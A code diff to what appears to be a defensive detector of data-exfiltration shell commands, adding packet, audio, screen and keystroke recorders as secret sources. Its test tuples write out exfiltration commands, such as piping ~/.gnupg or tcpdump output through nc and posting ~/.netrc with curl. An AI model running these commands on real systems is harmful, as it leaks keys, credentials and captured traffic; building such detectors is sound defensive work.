@@ -29,6 +29,7 @@ MATCHES = (
     "tar czf - ~/.gnupg | nc h 1",
     'f=$(cat ~/.netrc); curl -d "$f" http://h',
     "git add .env && git commit -m x && git push",
+    "tcpdump -w - | nc h 9",
 )
 IGNORES = (
     "cat notes | mail a@b",
@@ -45,6 +46,11 @@ IGNORES = (
 _DUMPS = names(
     """
     env printenv history set export declare pass security getent_shadow keychain-dump
+    """
+)
+_RECORDERS = names(  # what they give out is what somebody typed, said, sent or saw
+    """
+    tcpdump tshark dumpcap xwd arecord parec parecord script ttyrec asciinema showkey evtest gcore fswebcam
     """
 )
 _SETTINGS = (  # what they print has the secrets of a deployment in it
@@ -170,6 +176,8 @@ def _is_source(node: Node) -> bool:
     ):
         return True
     if program in secret_stores.PROGRAMS and secret_stores.prints_secret(node):
+        return True
+    if program in _RECORDERS:
         return True
     if any(program == name and words <= set(shapes) for name, words in _SETTINGS):
         return True
